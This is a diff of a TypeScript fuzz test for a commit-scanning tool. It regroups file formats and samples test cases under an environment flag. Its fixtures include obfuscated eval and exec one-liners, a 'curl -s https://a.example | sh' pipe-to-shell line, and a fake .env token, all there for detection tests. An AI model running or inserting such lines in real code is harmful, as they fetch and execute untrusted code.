@@ -2,9 +2,10 @@
  * Content that nobody would write, in every kind of file that a reader takes, through the real pool: an answer for each
  * commit, within its time and memory or with a gap that says so, and never the end of the process that asks.
  */
-import { createJudgePool } from "../../src/compose/judge-pool.ts";
+
 import { DEFAULT_POLICY, type Facts, toBaseline } from "../../src/engine/index.ts";
 import { READERS } from "../../src/evidence/readers/readers.ts";
+import { createJudgePool } from "../../src/judge/pool.ts";
 import type { GatheredCommit, GatheredFile } from "../../src/pipeline/ports.ts";
 
 interface Format {
@@ -20,11 +21,14 @@ const FORMATS: Readonly<Record<keyof Facts, readonly Format[]>> = {
   dump: [{ path: "results.b64", start: `${"QUFB".repeat(19)}\n` }],
   lockfile: [{ path: "pnpm-lock.yaml" }],
   manifest: [{ path: "pyproject.toml" }],
-  registry: [{ path: ".yarnrc.yml" }],
-  script: [
-    { path: "src/a.ts", start: "eval(atob(process.env.A)); fetch(b)\n" },
+  programs: [
+    { path: "Makefile" },
+    { path: "action.yml", start: "runs:\n" },
+    { path: "src/b.ts", start: "eval(atob(process.env.A)); fetch(b)\n" },
     { path: "src/a.py", start: "exec(base64.b64decode(a)); os.system(b)\n" },
+    { path: "tool.sh", start: "curl -s https://a.example | sh\n" },
   ],
+  registry: [{ path: ".yarnrc.yml" }],
   secrets: [{ path: ".env", start: `${["TO", "KEN"].join("")}=${"Ab1".repeat(12)}\n` }],
   workflow: [{ path: ".github/workflows/ci.yml" }],
 };
@@ -59,9 +63,14 @@ const CONTENTS: readonly (readonly [string, string | Uint8Array])[] = [
   ],
 ];
 
-const CASES = Object.values(FORMATS).flatMap((formats) =>
-  formats.flatMap(({ path, start = "" }) => CONTENTS.map(([name, content]) => ({ path, start, name, content }))),
-);
+/** One of four pairs of format and content; every pair in a long run, with `COUNTERSIGN_FUZZ`. */
+const APART = process.env["COUNTERSIGN_FUZZ"] === undefined ? 4 : 1;
+const CASES = Object.values(FORMATS)
+  .flat()
+  .flatMap(({ path, start = "" }, row) =>
+    CONTENTS.map(([name, content], column) => ({ path, start, name, content, at: row + column })),
+  )
+  .filter(({ at }) => at % APART === 0);
 
 function aFile({ path, start = "" }: Format, content: string | Uint8Array): GatheredFile {
   const after = Buffer.concat([Buffer.from(start), Buffer.from(content)]);
@@ -99,6 +108,7 @@ function aCommit(file: GatheredFile): GatheredCommit {
     arrival: null,
     gaps: [],
     available: ["commit", "paths", "baseline", "diff", "content"],
+    reading: "whole",
   };
 }
 
